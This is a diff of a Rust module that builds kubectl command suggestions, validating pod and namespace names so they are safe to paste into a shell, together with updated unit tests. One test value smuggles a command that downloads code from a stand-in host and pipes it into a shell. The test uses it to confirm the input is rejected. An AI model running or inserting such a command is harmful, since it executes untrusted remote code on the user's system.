@@ -14,7 +14,7 @@ const REGISTRY_MAX: usize = 512;
 
 /// A text if it is the name of an object in Kubernetes, a DNS-1123 subdomain: it needs no quotes, is no flag, and means
 /// nothing to a shell.
-pub(super) fn name(text: &str) -> Option<&str> {
+pub(crate) fn name(text: &str) -> Option<&str> {
     let is_inner = |byte: u8| matches!(byte, b'a'..=b'z' | b'0'..=b'9' | b'-');
     let is_label = |label: &str| {
         !label.is_empty()
@@ -26,13 +26,13 @@ pub(super) fn name(text: &str) -> Option<&str> {
 }
 
 /// All of `texts` with a blank between them if each of them is a [`name`].
-pub(super) fn names<'t>(texts: impl IntoIterator<Item = &'t str>) -> Option<String> {
+pub(crate) fn names<'t>(texts: impl IntoIterator<Item = &'t str>) -> Option<String> {
     let names: Vec<&str> = texts.into_iter().map(name).collect::<Option<_>>()?;
     (!names.is_empty()).then(|| names.join(" "))
 }
 
 /// A registry, `host[:port][/path]`, as one word of a command. IPv6 addresses are quoted: shells take brackets for a glob.
-pub(super) fn registry(text: &str) -> Option<String> {
+pub(crate) fn registry(text: &str) -> Option<String> {
     let is_plain =
         |byte: u8| byte.is_ascii_alphanumeric() || matches!(byte, b'.' | b':' | b'/' | b'_' | b'-');
     let starts_well = text.starts_with(|c: char| c.is_ascii_alphanumeric() || c == '[');
@@ -48,7 +48,7 @@ pub(super) fn registry(text: &str) -> Option<String> {
 }
 
 /// How to opt a namespace in, also where its label has another value.
-pub(super) fn opt_in(namespace: &str) -> String {
+pub(crate) fn opt_in(namespace: &str) -> String {
     match name(namespace) {
         Some(namespace) => {
             format!("kubectl label --overwrite namespace {namespace} {INJECT_LABEL}={OPTED_IN}")
@@ -57,18 +57,15 @@ pub(super) fn opt_in(namespace: &str) -> String {
     }
 }
 
-/// How to delete Pods. More than `most` of them, and invalid names, are not written out.
-pub(super) fn delete_pods<'p>(
-    namespace: &str,
-    pods: impl ExactSizeIterator<Item = &'p str>,
-    most: usize,
-) -> String {
-    let count = pods.len();
+/// How to delete so many Pods. Where `pods` are not the names of all of them, and where one is invalid, they are not written
+/// out.
+pub(crate) fn delete_pods(namespace: &str, pods: &[String], count: usize) -> String {
     let words = || {
         if count == 1 { "delete the Pod".to_owned() } else { format!("delete these {count} Pods") }
     };
-    let (Some(namespace), true) = (name(namespace), count <= most) else { return words() };
-    names(pods).map_or_else(words, |pods| format!("kubectl delete pod -n {namespace} {pods}"))
+    let (Some(namespace), true) = (name(namespace), count == pods.len()) else { return words() };
+    let pods = names(pods.iter().map(String::as_str));
+    pods.map_or_else(words, |pods| format!("kubectl delete pod -n {namespace} {pods}"))
 }
 
 #[cfg(test)]
@@ -132,13 +129,11 @@ mod tests {
     #[test]
     fn what_is_no_name_is_described_in_words() {
         let evil = "x; curl evil.example/x|sh";
-        assert_eq!(delete_pods("shop", ["a", evil].into_iter(), 5), "delete these 2 Pods");
-        assert_eq!(delete_pods(evil, ["a"].into_iter(), 5), "delete the Pod");
-        assert_eq!(
-            delete_pods("shop", ["a", "b"].into_iter(), 5),
-            "kubectl delete pod -n shop a b"
-        );
-        assert_eq!(delete_pods("shop", ["a", "b"].into_iter(), 1), "delete these 2 Pods");
+        let pods = |names: &[&str]| names.iter().map(ToString::to_string).collect::<Vec<_>>();
+        assert_eq!(delete_pods("shop", &pods(&["a", evil]), 2), "delete these 2 Pods");
+        assert_eq!(delete_pods(evil, &pods(&["a"]), 1), "delete the Pod");
+        assert_eq!(delete_pods("shop", &pods(&["a", "b"]), 2), "kubectl delete pod -n shop a b");
+        assert_eq!(delete_pods("shop", &pods(&["a"]), 2), "delete these 2 Pods");
         assert!(!opt_in(evil).contains("evil"));
     }
 }
